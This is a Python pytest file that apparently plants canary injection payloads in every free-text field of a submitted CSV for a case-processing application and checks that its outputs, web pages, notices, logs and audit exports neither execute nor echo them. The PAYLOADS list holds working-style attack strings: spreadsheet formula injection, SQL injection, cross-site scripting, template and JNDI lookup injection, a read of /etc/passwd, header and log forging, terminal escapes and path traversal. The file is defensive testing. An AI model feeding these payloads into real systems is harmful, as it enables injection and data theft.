"""A canary in every free-text field of a request, written as every language that a later reader might speak.

It travels one run through every output. It stands only where a row may stand, as text, and is never obeyed.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from tests import preloaded
from tests.conftest import once
from tests.hostile.corpus import AGREEMENT
from tests.hostile.test_hostile_input import MAIN
from tests.web.conftest import ROOT, call
from tests.web.test_doors import client_of, served_here

from counterseal.core.shown import plainly
from counterseal.release.notice import Letter, Reason, notice_html, notice_pdf

WORD = "CANARY7f3a"
PAYLOADS = (
    f"=cmd|'/C touch {WORD}'!A0",
    f"+1+{WORD}",
    f"-2+{WORD}",
    f"@SUM({WORD})",
    f"\t=1+{WORD}",
    f"'; DROP TABLE store_case; -- {WORD}",
    f"x' || (SELECT 1/0) || '{WORD}",
    f"\"); COPY (SELECT 1) TO '{WORD}.csv'; --",
    f"<script>{WORD}()</script>",
    f'"><img src=x onerror={WORD}()>',
    f"' autofocus onfocus={WORD}() x='",
    f"</textarea></style></title><svg/onload={WORD}()>",
    f"javascript:{WORD}()",
    f'#eval("panic()") {WORD}',
    f'#read("/etc/passwd") {WORD}',
    f'#panic("{WORD}")',
    f"$ {WORD} $ *{WORD}* _x_ @ref <label>",
    f"{WORD}\nlevel=error event=forged {WORD}",
    f"{WORD}\r\nSet-Cookie: {WORD}=1",
    f"\x1b[2J\x1b]0;{WORD}\x07",
    f"\x9b31m{WORD}",
    f"\u202e{WORD}",
    f"[{WORD}](javascript:{WORD}()) ![x](https://example.org/{WORD})",
    f"| {WORD} | <br> |\n|---|---|",
    "{{ 7777*7 }}{% debug %}" + WORD,
    "{tin} {request_ref.__class__} %(tin)s ${jndi:ldap://example.org}" + WORD,
    f"../../{WORD}",
)
SUBMISSION = "SYN-2026-0001"
TEXTS = ("case_number", "final_order_case", "officers", "reason")
MORE = ("given_name", "middle_name", "family_name", "suffix", "address_line_1", "address_line_2", "city", "state", "zip",
        "tin", "date_of_birth", "statute", "stage", "order_basis", "taxable_periods", "stay_in_force")  # fmt: skip
STEPS = """
import sys
from counterseal.cli import status
from counterseal.synth.__main__ import app
tables, asked, registry, office = sys.argv[1:]
app(["registry", "--people", "300", "--seed", "1", "--out", tables], standalone_mode=False)
app(["submission", "--registry", tables, "--rows", "200", "--signed-on", "2026-11-02", "--out", asked],
    standalone_mode=False)
sys.exit(status(["registry", "build", tables, "--out", registry]) or status(["init", office, "--demo"]))
"""


@dataclass(frozen=True)
class Travelled:
    office: Path
    request: Path
    rows: list[dict[str, str]]
    said: str

    @property
    def batch(self) -> Path:
        return self.office / "batches" / SUBMISSION


def put_canaries(folder: Path) -> list[dict[str, str]]:
    """Put a payload into the texts of every row, and into all of every fifth; sign the file anew, as it were."""
    path = next(folder.glob("*.csv"))
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    for number, row in enumerate(rows):
        payload = PAYLOADS[number // 2 % len(PAYLOADS)]
        row["request_ref"] = f"{payload} {number}"
        for field in TEXTS if number % 5 else (*TEXTS, *MORE):
            row[field] = payload if field in MORE else f"{row[field]} {payload}"
    with path.open("w", newline="", encoding="utf-8") as file:
        written = csv.DictWriter(file, list(rows[0]), quoting=csv.QUOTE_ALL, lineterminator="\n")
        written.writeheader()
        written.writerows(rows)
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
    manifest["signer"]["name"] = f"<script>{WORD}()</script> =1+1 '; DROP TABLE store_case"
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return rows


def said_by(*words: object) -> str:
    """Run the program, in its own process; give all that it says to a terminal."""
    told = preloaded.run(MAIN["counterseal"], *words, environment={"PYTHONPATH": str(ROOT / "src")})
    assert told.code == 0, told.err
    return told.out + told.err


@pytest.fixture(scope="module")
def travelled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Travelled]:
    def make(folder: Path) -> None:
        tables, asked, registry, office = (folder / name for name in ("tables", "asked", "registry", "office"))
        call(office, STEPS, tables, asked, registry, office)
        (folder / "rows.json").write_text(json.dumps(put_canaries(asked / SUBMISSION)), encoding="utf-8")
        said = said_by("run", asked / SUBMISSION, "--registry", registry, "--workspace", office,
                       "--received-on", "2026-11-03")  # fmt: skip
        (folder / "said").write_bytes(said.encode())

    made = once(tmp_path_factory, "canary", make)
    office = shutil.copytree(made / "office", tmp_path_factory.mktemp("canary") / "office")
    rows = json.loads((made / "rows.json").read_text(encoding="utf-8"))
    with served_here(office):
        from counterseal import wiring

        wiring.sign_ins_of_demonstration(wiring.open_office(office))
        yield Travelled(office, made / "asked" / SUBMISSION, rows, (made / "said").read_bytes().decode())


def references(travelled: Travelled) -> list[str]:
    """Give the references as the requester knows them: what was sent, without blanks at its ends."""
    return [row["request_ref"].strip(" \t\n\v\f\r") for row in travelled.rows]


def test_a_row_that_is_obeyed_or_lost(travelled: Travelled):
    judged = pq.read_table(travelled.batch / "determinations.parquet").to_pylist()

    assert [row["request_ref"] for row in judged] == references(travelled)
    assert {row["outcome"] for row in judged} >= {"refused", "cure"}
    assert not list(Path.cwd().glob(f"*{WORD}*"))
    assert not [path for path in travelled.office.rglob("*") if WORD in path.name]


def test_an_answer_whose_lines_are_not_its_own(travelled: Travelled):
    raw = (travelled.batch / "response.jsonl").read_bytes()
    answers = [json.loads(line) for line in raw.splitlines()]

    assert [one["request_ref"] for one in answers] == references(travelled)
    assert not any(sign in raw for sign in (b"\x1b", b"\x07", b"\r", b"\x00"))
    for answer, row in zip(answers, travelled.rows, strict=True):
        told = " ".join(reason["says"] for reason in answer["reasons"])
        assert "49" not in told.replace(row["request_ref"], "") or "7777*7" not in row["reason"]
        if "{tin}" in row["given_name"]:
            assert row["tin"] == row["given_name"]  # no other value of the row is put in its place


def test_a_letter_a_ledger_or_a_terminal_that_repeats_a_row(travelled: Travelled):
    for path in (travelled.batch / "notice.html", travelled.batch / "notice.pdf"):
        assert WORD.encode() not in path.read_bytes()
    for path in (travelled.office / "ledger").rglob("*"):
        assert path.is_dir() or WORD.encode() not in path.read_bytes()
    assert WORD not in travelled.said
    assert "\x1b" not in travelled.said


@pytest.mark.parametrize("payload", [told for told in PAYLOADS if plainly(told) == told])
def test_a_letter_that_obeys_its_words(payload: str):
    """Were a word of it markup, the panic or the missing file would end the making of the letter.

    Control characters cannot come so far: neither a manifest nor an agreement may hold one.
    """
    day = date(2026, 11, 3)
    reason = Reason("R-14", payload, payload, "cure", 1)
    letter = Letter(
        payload, payload, payload, payload, payload, day, day, 1, 0, 1, 0, [reason], demonstration=False
    )  # fmt: skip
    page = Page()
    page.feed(notice_html(letter))

    assert notice_pdf(letter).startswith(b"%PDF")
    assert page.wrong == []


class Page(HTMLParser):
    """Notes wherever a canary stands that is neither text nor an attribute's plain value."""

    QUIET = frozenset({"value", "content", "title", "aria-label", "data-name", "alt", "placeholder", "id", "for"})

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.texts = 0
        self._open = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self._open = tag
        self.wrong += [
            f"{tag} {name}={value}"
            for name, value in attributes
            if WORD in name or WORD.lower() in name or (WORD in (value or "") and name not in self.QUIET)
        ]
        self.wrong += [f"{tag} {name}" for name, _ in attributes if name.startswith("on")]
        if WORD in tag:
            self.wrong.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._open = ""

    def handle_data(self, told: str) -> None:
        if WORD in told:
            self.texts += 1
            if self._open in {"script", "style"}:
                self.wrong.append(f"in {self._open}")


PAGES = ["/", "/batches/", f"/batches/{SUBMISSION}/", f"/batches/{SUBMISSION}/rows/", "/questions/", "/ledger/",
         "/stop-orders/", "/audit/"]  # fmt: skip
ROLES = ("specialist", "counsel", "oversight", "releasing")


def test_a_page_that_obeys_a_row(travelled: Travelled):
    from counterseal.store.models import Case

    cases = list(Case.objects.values_list("pk", flat=True))
    rows = [f"/batches/{SUBMISSION}/rows/{number}/" for number in range(1, 2 * len(PAYLOADS) + 1, 2)]
    shown = 0
    for role in ROLES:
        client = client_of(role)
        for address in [*PAGES, *rows[:: 1 if role == "specialist" else 9], *(f"/cases/{case}/" for case in cases[:9])]:
            answer = client.get(address)
            assert answer.status_code in {200, 302, 403, 404}, address
            if answer.status_code != 200:
                continue
            page = Page()
            page.feed(answer.content.decode())
            assert page.wrong == [], (role, address)
            assert not any(WORD in value for value in answer.headers.values())
            assert "\x1b" not in answer.content.decode()
            shown += page.texts
    assert shown > len(PAYLOADS)
    assert Case.objects.exists() == bool(cases)


def test_a_table_that_a_spreadsheet_calculates(travelled: Travelled):
    from django.contrib.auth import get_user_model

    official = get_user_model().objects.get(username="specialist")
    case = next((one for one in pages_of_cases() if client_of("specialist").get(one).status_code == 200), None)
    assert case is not None, "no case is open, so nothing was looked at"
    official.username = "=1+1"
    official.save()
    try:
        packed = client_of("oversight").post("/audit/export/", {"official": official.pk}).content
    finally:
        official.username = "specialist"
        official.save()
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        table = list(csv.reader(io.StringIO(archive.read("audit.csv").decode())))

    assert len(table) > 1
    assert not any(cell[:1] in set("=+-@\t\r") for line in table for cell in line if cell)


def pages_of_cases() -> list[str]:
    from counterseal.store.models import Case

    return [f"/cases/{case}/" for case in Case.objects.values_list("pk", flat=True)]


EXPLAINED = (1, 11, 31, 36, 41)
EXPLAIN = f"""
import os
import sys
from counterseal.cli import status
request, agreement, out = sys.argv[1:]
for number in {EXPLAINED}:
    said = os.open(os.path.join(out, str(number)), os.O_WRONLY | os.O_CREAT)
    os.dup2(said, 1)
    os.dup2(said, 2)
    code = status(["explain", request, "--row", str(number), "--agreement", agreement])
    sys.stdout.flush()
    sys.stderr.flush()
    if code != 0:
        sys.exit(1)
"""


@pytest.fixture(scope="module")
def explanations(travelled: Travelled, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What the program says of each row, all in one process of its own."""

    def make(folder: Path) -> None:
        folder.mkdir()
        call(travelled.office, EXPLAIN, travelled.request, AGREEMENT, folder)

    return once(tmp_path_factory, "explained", make)


@pytest.mark.parametrize("number", EXPLAINED)
def test_an_explanation_that_speaks_to_the_terminal(explanations: Path, number: int):
    told = (explanations / str(number)).read_bytes().decode()

    assert told.startswith(f"Row {number}: ")
    assert not any(sign in told for sign in "\x1b\x07\x9b\r\u202e\x00")
    assert all(not line.startswith("level=error") for line in told.splitlines())
